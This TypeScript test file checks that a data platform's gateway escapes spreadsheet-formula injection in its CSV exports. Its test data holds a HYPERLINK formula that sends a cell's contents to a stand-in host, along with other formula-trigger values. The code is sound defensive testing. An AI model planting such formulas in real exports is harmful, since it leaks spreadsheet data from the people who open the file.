/**
 * Issue 12, hole 7: the gateway's CSV output neutralises spreadsheet formulas like every other CSV
 * writer of the platform (they all use core/csv.ts): a provider's value `=HYPERLINK(…)` must reach a
 * consumer's spreadsheet as text, not run.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse } from 'csv-parse/sync';
import { engines, testPlatform, type TestPlatform } from '../../../test/support/platform.js';
import { ldopWorld, requestAgreement, type Ldop } from './fixture.test.js';

const EVIL = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', '+84-912', '-1+1', '@SUM(A1:A9)', '\t=1'];

for (const engine of engines()) {
  describe(`LDOP CSV output (${engine})`, () => {
    let p: TestPlatform;
    let w: Ldop;
    let upstream: Server;
    before(async () => {
      p = await testPlatform(engine, { PROVDATA_OUTBOUND_ALLOW: '127.0.0.1' });
      w = await ldopWorld(p, 'v');
      upstream = createServer((_req, res) => res.end(JSON.stringify(EVIL.map((ten, i) => ({ ma_xa: String(21553 + i), ten })))));
      await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    });
    after(async () => {
      upstream.close();
      await p.close();
    });

    test('formula-like values leave the gateway as text in CSV, and come back exact when read as CSV', async () => {
      const sub = await w.api(w.provider, 'POST', '/api/ldop/subsystems', { code: 'csdl-cong-thuc', name: 'CSDL thử công thức' });
      const svc = await w.api(w.provider, 'POST', '/api/ldop/services', {
        subsystemId: sub.json().id, code: 'cong-thuc', kind: 'rest', title: 'Giá trị như công thức',
        upstreamUrl: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/x`, upstreamFormat: 'json', fields: [{ name: 'ma_xa' }, { name: 'ten' }],
      });
      assert.equal(svc.statusCode, 201, svc.body);
      const id = await requestAgreement(w, { serviceId: svc.json().id, fields: ['ma_xa', 'ten'], clearFields: [], rowFilter: [] });
      assert.equal((await w.api(w.provider, 'POST', `/api/ldop/agreements/${id}/approve`, {})).statusCode, 200);
      const r = await w.gw(svc.json().path, { accept: 'text/csv' });
      assert.equal(r.statusCode, 200, r.body);
      const rows = parse(r.body, { columns: true }) as { ma_xa: string; ten: string }[];
      assert.deepEqual(rows.map((x) => x.ten), EVIL.map((s) => `'${s}`), 'every formula-like cell starts with an apostrophe');
      assert.ok(rows.every((x) => /^\d+$/.test(x.ma_xa)));
      for (const line of r.body.split('\r\n').slice(1).filter(Boolean)) assert.doesNotMatch(line.split(',').slice(1).join(','), /^"?[=+\-@\t]/);
    });
  });
}
